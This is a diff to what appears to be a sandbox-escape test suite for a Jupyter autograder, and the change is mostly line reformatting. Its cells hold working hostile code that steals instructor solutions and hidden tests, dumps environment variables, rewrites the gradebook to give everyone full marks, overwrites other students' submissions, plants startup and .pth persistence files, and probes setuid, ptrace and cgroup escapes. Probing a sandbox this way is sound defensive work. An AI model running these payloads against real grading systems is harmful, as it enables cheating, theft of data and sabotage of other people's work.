@@ -40,13 +40,14 @@ ENTRIES = [
     for one in (
         # Read
         cell(
-            "It executes the instructor's answers from the repository and from the course"
-            " directory",
+            "It executes the instructor's answers from"
+            " the repository and from the course directory",
             LOOT
             + """
 import json, re
 def steal(*_):
-    for path in glob.glob("@workspace@/grading/source/*/*.py") + glob.glob("@course@/source/*/*") + glob.glob("../../../source/*/*"):
+    for path in (glob.glob("@workspace@/grading/source/*/*.py") + glob.glob("@course@/source/*/*")
+                 + glob.glob("../../../source/*/*")):
         try:
             text = open(path).read()
             for found in re.findall(r"(?:^|\\n)(#\\| export\\n.*?)(?=\\n# %%)", text, re.DOTALL):
@@ -65,8 +66,9 @@ get_ipython().events.register("pre_run_cell", steal)
             "It prints the hidden tests from wherever they may lie",
             LOOT
             + """
-loot("@workspace@/grading/**/*.py", "@course@/source/*/*", "@course@/autograded/*/*/*.ipynb", "@scratch@/**/*.ipynb", "@scratch@/**/*.py",
-     "/given/**", "/tmp/**/*.ipynb", "/tmp/**/*hidden*", "./**/*", "../**/*.ipynb", "../../**/*.ipynb")
+loot("@workspace@/grading/**/*.py", "@course@/source/*/*", "@course@/autograded/*/*/*.ipynb",
+     "@scratch@/**/*.ipynb", "@scratch@/**/*.py", "/given/**", "/tmp/**/*.ipynb",
+     "/tmp/**/*hidden*", "./**/*", "../**/*.ipynb", "../../**/*.ipynb")
 """,
         ),
         cell(
@@ -74,12 +76,13 @@ loot("@workspace@/grading/**/*.py", "@course@/source/*/*", "@course@/autograded/
             LOOT
             + """
 loot("@course@/submitted/*/*/*", "../../../submitted/*/*/*", "@scratch@/**/submitted/**/*.ipynb")
-loot("@course@/gradebook.db", "@course@/reports/*/*", "../../../gradebook.db", "@scratch@/**/gradebook.db", "@scratch@/**/request.json")
+loot("@course@/gradebook.db", "@course@/reports/*/*", "../../../gradebook.db",
+     "@scratch@/**/gradebook.db", "@scratch@/**/request.json")
 """,
         ),
         cell(
-            "It prints the environment, its own and every process's, and what its file descriptors"
-            " hold",
+            "It prints the environment, its own and every process's,"
+            " and what its file descriptors hold",
             LOOT
             + """
 print(dict(os.environ))
@@ -98,7 +101,8 @@ for fd in range(3, 64):
             "It gives everybody all points in the gradebook",
             """
 import glob, sqlite3
-for path in ["@course@/gradebook.db", "../../../gradebook.db", *glob.glob("@scratch@/**/gradebook.db", recursive=True)]:
+for path in ["@course@/gradebook.db", "../../../gradebook.db",
+             *glob.glob("@scratch@/**/gradebook.db", recursive=True)]:
     try:
         book = sqlite3.connect(path, timeout=1)
         book.execute("UPDATE grade SET auto_score = 99, manual_score = 99")
@@ -109,17 +113,18 @@ for path in ["@course@/gradebook.db", "../../../gradebook.db", *glob.glob("@scra
 """,
         ),
         cell(
-            "It overwrites the work of its neighbours, the release, the source and the tests of the"
-            " course",
+            "It overwrites the work of its neighbours, the release,"
+            " the source and the tests of the course",
             WRITE
             + """
 for victim in "@victims@".split(","):
-    for path in glob.glob(f"@course@/submitted/{victim}/*/*.ipynb") + glob.glob(f"../../../submitted/{victim}/*/*.ipynb"):
+    for path in (glob.glob(f"@course@/submitted/{victim}/*/*.ipynb")
+                 + glob.glob(f"../../../submitted/{victim}/*/*.ipynb")):
         write(path, "{}", "w")
     for kind in ("autograded", "feedback", "reports"):
         write(f"@course@/{kind}/{victim}/@token@.html")
-for path in (glob.glob("@course@/release/*/*") + glob.glob("@course@/source/*/*") + glob.glob("@workspace@/**/*.py", recursive=True)
-             + ["@course@/nbgrader_config.py"]):
+for path in (glob.glob("@course@/release/*/*") + glob.glob("@course@/source/*/*")
+             + glob.glob("@workspace@/**/*.py", recursive=True) + ["@course@/nbgrader_config.py"]):
     write(path)
 """,
         ),
@@ -137,13 +142,14 @@ for module in (numpy, IPython, ipykernel):
 for home in ("@home@", os.path.expanduser("~"), os.environ.get("HOME", "/")):
     for name in (".ipython/profile_default/startup/@token@.py", ".jupyter/jupyter_@token@.py",
                  ".local/share/jupyter/kernels/@token@/kernel.json",
-                 ".local/lib/python3.11/site-packages/@token@.pth", ".config/@token@/rc", ".cache/@token@"):
+                 ".local/lib/python3.11/site-packages/@token@.pth",
+                 ".config/@token@/rc", ".cache/@token@"):
         write(os.path.join(home, name))
 """,
         ),
         cell(
-            "It changes the package that it was given, and leaves files in every directory that"
-            " all use",
+            "It changes the package that it was given,"
+            " and leaves files in every directory that all use",
             WRITE
             + """
 import tinytorch, tinytorch.testing
@@ -158,7 +164,8 @@ for place in ("/tmp", "/dev/shm", "/var/tmp", "@scratch@", "/run", "/", "/etc"):
             "It leaves links, a pipe and a socket in its directory for the engine to follow",
             """
 import os, socket
-for target, name in (("@course@/gradebook.db", "fort_dev.ipynb"), ("/etc/passwd", "result.json"), ("@course@", "folder")):
+for target, name in (("@course@/gradebook.db", "fort_dev.ipynb"), ("/etc/passwd", "result.json"),
+                     ("@course@", "folder")):
     try:
         os.symlink(target, name)
     except OSError as problem:
@@ -188,7 +195,10 @@ def attempt(action):
         print(action())
     except OSError as problem:
         print(type(problem).__name__)
-attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"@token@", ("127.0.0.1", @udp@)))
+def datagram():
+    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    return one.sendto(b"@token@", ("127.0.0.1", @udp@))
+attempt(datagram)
 attempt(lambda: socket.getaddrinfo("localhost.invalid", 80))
 def unix():
     with socket.socket(socket.AF_UNIX) as one:
@@ -221,7 +231,8 @@ if os.fork() == 0:
         stop = time.monotonic() + 120
         while time.monotonic() < stop:
             time.sleep(0.5)
-            for action in (lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"@token@", ("127.0.0.1", @udp@)),
+            one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            for action in (lambda: one.sendto(b"@token@", ("127.0.0.1", @udp@)),
                            lambda: pathlib.Path("@scratch@/@token@-daemon").write_text("here")):
                 try:
                     action()
@@ -255,10 +266,11 @@ except OSError:
             """
 import ctypes, os
 libc = ctypes.CDLL(None, use_errno=True)
-print("setuid", libc.setuid(0), "mount", libc.mount(b"none", b"/mnt", b"tmpfs", 0, None), "unshare", libc.unshare(0x10000000 | 0x20000))
-print("ptrace", libc.ptrace(16, os.getppid(), 0, 0), "chroot", libc.chroot(b"/"), "reboot", libc.sethostname(b"@token@", 5))
-for path in ("/proc/sys/kernel/core_pattern", "/sys/fs/cgroup/release_agent", "/dev/mem", "/dev/sda",
-              "/proc/sysrq-trigger", "/proc/self/oom_score_adj"):
+print("setuid", libc.setuid(0), "mount", libc.mount(b"none", b"/mnt", b"tmpfs", 0, None))
+print("unshare", libc.unshare(0x10000000 | 0x20000), "ptrace", libc.ptrace(16, os.getppid(), 0, 0))
+print("chroot", libc.chroot(b"/"), "reboot", libc.sethostname(b"@token@", 5))
+for path in ("/proc/sys/kernel/core_pattern", "/sys/fs/cgroup/release_agent", "/dev/mem",
+             "/dev/sda", "/proc/sysrq-trigger", "/proc/self/oom_score_adj"):
     try:
         open(path, "r+b").close()
         print("opened", path)
